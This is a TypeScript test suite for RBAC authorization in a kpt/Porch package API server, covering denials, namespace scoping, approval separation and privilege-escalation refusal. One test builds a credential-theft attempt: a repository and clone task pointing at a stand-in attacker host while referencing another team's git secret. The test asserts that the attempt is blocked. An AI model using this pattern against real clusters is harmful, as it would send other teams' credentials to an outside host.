import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { routes } from '../../lib/http/routes.js';
import { createWorld, pr, RBAC, userOf, type World } from './support/world.js';

let w: World;
let admin: string;
let nobody: string;
let editor: string;
let approver: string;

const role = (namespace: string, name: string, rules: object[]) => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'Role',
  metadata: { name, namespace },
  rules,
});
const groupBinding = (
  kind: string,
  name: string,
  roleKind: string,
  roleName: string,
  group: string,
  namespace?: string,
) => ({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind,
  metadata: { name, ...(namespace ? { namespace } : {}) },
  subjects: [{ kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: group }],
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: roleKind, name: roleName },
});
const draft = (ns: string, pkg: string) => ({
  apiVersion: 'porch.kpt.dev/v1alpha1',
  kind: 'PackageRevision',
  metadata: { namespace: ns },
  spec: { repository: 'blueprints', packageName: pkg, workspaceName: 'ws1' },
});
const P = 'porch.kpt.dev';

async function created(token: string, path: string, body: object) {
  const res = await w.call(token, 'POST', path, { body });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body;
}

beforeAll(async () => {
  w = await createWorld();
  admin = await w.token('root', ['system:masters']);
  nobody = await w.token('nobody');
  editor = await w.token('ed', ['team-a-editors']);
  approver = await w.token('ap', ['team-a-approvers']);
  // A team that may edit drafts and propose them, but not approve; and an approver group.
  await created(
    admin,
    `${RBAC}/namespaces/team-a/roles`,
    role('team-a', 'package-editor', [
      {
        apiGroups: [P],
        resources: ['packagerevisions', 'packagerevisionresources', 'packages'],
        verbs: ['get', 'list', 'create', 'update', 'patch'],
      },
    ]),
  );
  await created(
    admin,
    `${RBAC}/namespaces/team-a/rolebindings`,
    groupBinding('RoleBinding', 'editors', 'Role', 'package-editor', 'team-a-editors', 'team-a'),
  );
  await created(admin, `${RBAC}/clusterroles`, {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRole',
    metadata: { name: 'package-approver' },
    rules: [
      {
        apiGroups: [P],
        resources: ['packagerevisions', 'packagerevisions/approval'],
        verbs: ['get', 'list', 'update'],
      },
    ],
  });
  await created(
    admin,
    `${RBAC}/namespaces/team-a/rolebindings`,
    groupBinding('RoleBinding', 'approvers', 'ClusterRole', 'package-approver', 'team-a-approvers', 'team-a'),
  );
}, 60_000);
afterAll(async () => w?.close());

describe('a caller without a grant', () => {
  const guarded = routes.filter((r) => r.authorize);
  it.each(guarded.map((r) => [`${r.method} ${r.path}`, r] as const))(
    "gets 403 with Kubernetes' text on %s, and nothing changes",
    async (_, route) => {
      const path = route.path.replace('{namespace}', 'team-a').replace('{name}', 'blueprints.p.ws1');
      const before = await w.snapshot();
      const body = route.method === 'GET' || route.method === 'DELETE' ? undefined : { metadata: { name: 'x' } };
      const res = await w.call(nobody, route.method, path, { body });
      expect(res.status, JSON.stringify(res.body)).toBe(403);
      expect(res.body).toMatchObject({ kind: 'Status', reason: 'Forbidden', code: 403 });
      const verb =
        { POST: 'create', PUT: 'update', PATCH: 'patch', DELETE: 'delete' }[route.method as string] ??
        (route.path.endsWith('{name}') || route.path.endsWith('approval') ? 'get' : 'list');
      const scope = route.path.includes('{namespace}') ? 'in the namespace "team-a"' : 'at the cluster scope';
      expect(res.body.message).toMatch(
        new RegExp(
          `^[a-z]+(\\.[a-z0-9.]+)?( "blueprints\\.p\\.ws1")? is forbidden: User "${userOf('nobody')}" cannot ${verb} resource "[a-z/]+" in API group "[a-z0-9.]*" ${scope}$`,
        ),
      );
      expect(await w.snapshot()).toBe(before);
    },
  );

  it('names the approval subresource in the text', async () => {
    const res = await w.call(nobody, 'PUT', `${pr('team-a')}/blueprints.p.ws1/approval`, { body: {} });
    expect(res.body.message).toBe(
      `packagerevisions.porch.kpt.dev "blueprints.p.ws1" is forbidden: User "${userOf('nobody')}" cannot update resource "packagerevisions/approval" in API group "porch.kpt.dev" in the namespace "team-a"`,
    );
  });
});

describe('a Role granting everything in team-a', () => {
  const guarded = routes.filter((r) => r.authorize);
  let member: string;
  beforeAll(async () => {
    await created(
      admin,
      `${RBAC}/namespaces/team-a/roles`,
      role('team-a', 'owner', [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }]),
    );
    await created(
      admin,
      `${RBAC}/namespaces/team-a/rolebindings`,
      groupBinding('RoleBinding', 'owners', 'Role', 'owner', 'team-a-owners', 'team-a'),
    );
    member = await w.token('owner', ['team-a-owners']);
  });

  it.each(guarded.map((r) => [`${r.method} ${r.path}`, r] as const))('%s: allowed in team-a only', async (_, route) => {
    const body = route.method === 'GET' || route.method === 'DELETE' ? undefined : { metadata: { name: 'x' } };
    const at = (ns: string) => route.path.replace('{namespace}', ns).replace('{name}', 'x');
    if (!route.path.includes('{namespace}')) {
      expect((await w.call(member, route.method, at(''), { body })).status).toBe(403);
      return;
    }
    expect((await w.call(member, route.method, at('team-a'), { body })).status).not.toBe(403);
    const before = await w.snapshot();
    const denied = await w.call(member, route.method, at('team-b'), { body });
    expect(denied.status).toBe(403);
    expect(denied.body.message).toContain('in the namespace "team-b"');
    expect(await w.snapshot()).toBe(before);
  });
});

describe('a Role bound in team-a', () => {
  it('lets the team edit in team-a and nowhere else, records the identity, and cannot approve', async () => {
    const made = await created(editor, pr('team-a'), draft('team-a', 'net'));
    expect(made.metadata.name).toBe('blueprints.net.ws1');
    const { rows } = await w.tdb.db.query(`select updated_by from package_revisions where name = 'blueprints.net.ws1'`);
    expect(rows[0].updated_by).toBe(userOf('ed'));
    const other = await w.call(editor, 'POST', pr('team-b'), { body: draft('team-b', 'net') });
    expect(other.status).toBe(403);
    expect(other.body.message).toContain(
      'cannot create resource "packagerevisions" in API group "porch.kpt.dev" in the namespace "team-b"',
    );

    const proposed = await w.call(editor, 'PUT', `${pr('team-a')}/blueprints.net.ws1`, {
      body: { ...made, spec: { ...made.spec, lifecycle: 'Proposed' } },
    });
    expect(proposed.status, JSON.stringify(proposed.body)).toBe(200);
    const publish = { ...proposed.body, spec: { ...proposed.body.spec, lifecycle: 'Published' } };
    const refused = await w.call(editor, 'PUT', `${pr('team-a')}/blueprints.net.ws1/approval`, { body: publish });
    expect(refused.status).toBe(403);
    expect(refused.body.message).toContain('cannot update resource "packagerevisions/approval"');

    const approved = await w.call(approver, 'PUT', `${pr('team-a')}/blueprints.net.ws1/approval`, { body: publish });
    expect(approved.status, JSON.stringify(approved.body)).toBe(200);
    expect(approved.body.spec.lifecycle).toBe('Published');
    expect(approved.body.status.publishedBy).toBe(userOf('ap'));
  });

  it('does not grant a cluster-wide list; a ClusterRoleBinding does', async () => {
    const all = '/apis/porch.kpt.dev/v1alpha1/packagerevisions';
    const denied = await w.call(editor, 'GET', all);
    expect(denied.status).toBe(403);
    expect(denied.body.message).toBe(
      `packagerevisions.porch.kpt.dev is forbidden: User "${userOf('ed')}" cannot list resource "packagerevisions" in API group "porch.kpt.dev" at the cluster scope`,
    );
    await created(
      admin,
      `${RBAC}/clusterrolebindings`,
      groupBinding('ClusterRoleBinding', 'auditors', 'ClusterRole', 'package-approver', 'auditors'),
    );
    const auditor = await w.token('au', ['auditors']);
    const listed = await w.call(auditor, 'GET', all);
    expect(listed.status).toBe(200);
    expect(listed.body.items.map((i: any) => i.metadata.name)).toContain('blueprints.net.ws1');
  });
});

describe('credentials', () => {
  const repository = (secret?: string) => ({
    apiVersion: 'config.porch.kpt.dev/v1alpha1',
    kind: 'Repository',
    metadata: { name: 'mine', namespace: 'team-b' },
    spec: {
      type: 'git',
      git: { repo: 'https://attacker.example.test/x.git', ...(secret ? { secretRef: { name: secret } } : {}) },
    },
  });

  it("needs get on the secret to name it: repositories in team-b do not grant team-b's credentials", async () => {
    await created(
      admin,
      `${RBAC}/namespaces/team-b/roles`,
      role('team-b', 'repo-admin', [
        { apiGroups: ['config.porch.kpt.dev'], resources: ['repositories'], verbs: ['*'] },
        { apiGroups: [P], resources: ['packagerevisions'], verbs: ['create'] },
      ]),
    );
    await created(
      admin,
      `${RBAC}/namespaces/team-b/rolebindings`,
      groupBinding('RoleBinding', 'repo-admins', 'Role', 'repo-admin', 'thieves', 'team-b'),
    );
    const thief = await w.token('mallory', ['thieves']);
    const before = await w.snapshot();
    const res = await w.call(thief, 'POST', '/apis/config.porch.kpt.dev/v1alpha1/namespaces/team-b/repositories', {
      body: repository('github'),
    });
    expect(res.status).toBe(403);
    expect(res.body.message).toBe(
      `secrets "github" is forbidden: User "${userOf('mallory')}" cannot get resource "secrets" in API group "" in the namespace "team-b"`,
    );
    const clone = await w.call(thief, 'POST', pr('team-b'), {
      body: {
        ...draft('team-b', 'stolen'),
        spec: {
          ...draft('team-b', 'stolen').spec,
          tasks: [
            {
              type: 'clone',
              clone: {
                upstreamRef: {
                  type: 'git',
                  git: {
                    repo: 'https://attacker.example.test/x.git',
                    ref: 'main',
                    directory: '/',
                    secretRef: { name: 'github' },
                  },
                },
              },
            },
          ],
        },
      },
    });
    expect(clone.status).toBe(403);
    expect(clone.body.message).toContain('cannot get resource "secrets"');
    expect(await w.snapshot()).toBe(before);
    const plain = await w.call(thief, 'POST', '/apis/config.porch.kpt.dev/v1alpha1/namespaces/team-b/repositories', {
      body: repository(),
    });
    expect(plain.status, JSON.stringify(plain.body)).toBe(201);
  });
});

describe('escalation', () => {
  it('refuses to bind a role whose permissions the caller does not hold, and to write such a role', async () => {
    await created(
      admin,
      `${RBAC}/namespaces/team-a/roles`,
      role('team-a', 'binder', [
        { apiGroups: ['rbac.authorization.k8s.io'], resources: ['rolebindings', 'roles'], verbs: ['create'] },
      ]),
    );
    await created(
      admin,
      `${RBAC}/namespaces/team-a/rolebindings`,
      groupBinding('RoleBinding', 'binders', 'Role', 'binder', 'team-a-editors', 'team-a'),
    );
    const bindApprover = await w.call(editor, 'POST', `${RBAC}/namespaces/team-a/rolebindings`, {
      body: groupBinding('RoleBinding', 'me-too', 'ClusterRole', 'package-approver', 'team-a-editors', 'team-a'),
    });
    expect(bindApprover.status).toBe(403);
    expect(bindApprover.body.message).toContain('is attempting to grant RBAC permissions not currently held');
    const bigRole = await w.call(editor, 'POST', `${RBAC}/namespaces/team-a/roles`, {
      body: role('team-a', 'all', [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }]),
    });
    expect(bigRole.status).toBe(403);
    const ownRole = await w.call(editor, 'POST', `${RBAC}/namespaces/team-a/roles`, {
      body: role('team-a', 'reader', [{ apiGroups: [P], resources: ['packagerevisions'], verbs: ['get'] }]),
    });
    expect(ownRole.status, JSON.stringify(ownRole.body)).toBe(201);
  });
});

describe('RBAC objects', () => {
  it('lists, gets, patches and deletes, and keeps roleRef immutable', async () => {
    const list = await w.call(admin, 'GET', `${RBAC}/namespaces/team-a/rolebindings`);
    expect(list.body.kind).toBe('RoleBindingList');
    expect(list.body.items.map((i: any) => i.metadata.name)).toEqual(['approvers', 'binders', 'editors', 'owners']);
    const got = await w.call(admin, 'GET', `${RBAC}/namespaces/team-a/rolebindings/editors`);
    expect(got.body.roleRef).toEqual({ apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'package-editor' });
    const changed = await w.call(admin, 'PATCH', `${RBAC}/namespaces/team-a/rolebindings/editors`, {
      body: { roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'package-approver' } },
      headers: { 'content-type': 'application/merge-patch+json' },
    });
    expect(changed.status).toBe(422);
    const labelled = await w.call(admin, 'PATCH', `${RBAC}/namespaces/team-a/rolebindings/editors`, {
      body: { metadata: { labels: { team: 'a' } } },
      headers: { 'content-type': 'application/strategic-merge-patch+json' },
    });
    expect(labelled.status, JSON.stringify(labelled.body)).toBe(200);
    expect(labelled.body.metadata.labels).toEqual({ team: 'a' });
    const invalid = await w.call(admin, 'POST', `${RBAC}/namespaces/team-a/roles`, {
      body: role('team-a', 'bad', [{ resources: ['x'] }]),
    });
    expect(invalid.status).toBe(422);
    expect(invalid.body.message).toContain('rules[0].verbs');
    const applied = await w.call(admin, 'PATCH', `${RBAC}/namespaces/team-a/rolebindings/editors`, {
      query: { fieldManager: 'kubectl' },
      body: 'metadata:\n  labels:\n    team: b\n',
      headers: { 'content-type': 'application/apply-patch+yaml' },
    });
    expect(applied.status).toBe(415);
    const removed = await w.call(admin, 'DELETE', `${RBAC}/namespaces/team-a/roles/reader`);
    expect(removed.status).toBe(200);
    expect((await w.call(admin, 'GET', `${RBAC}/namespaces/team-a/roles/reader`)).status).toBe(404);
  });
});
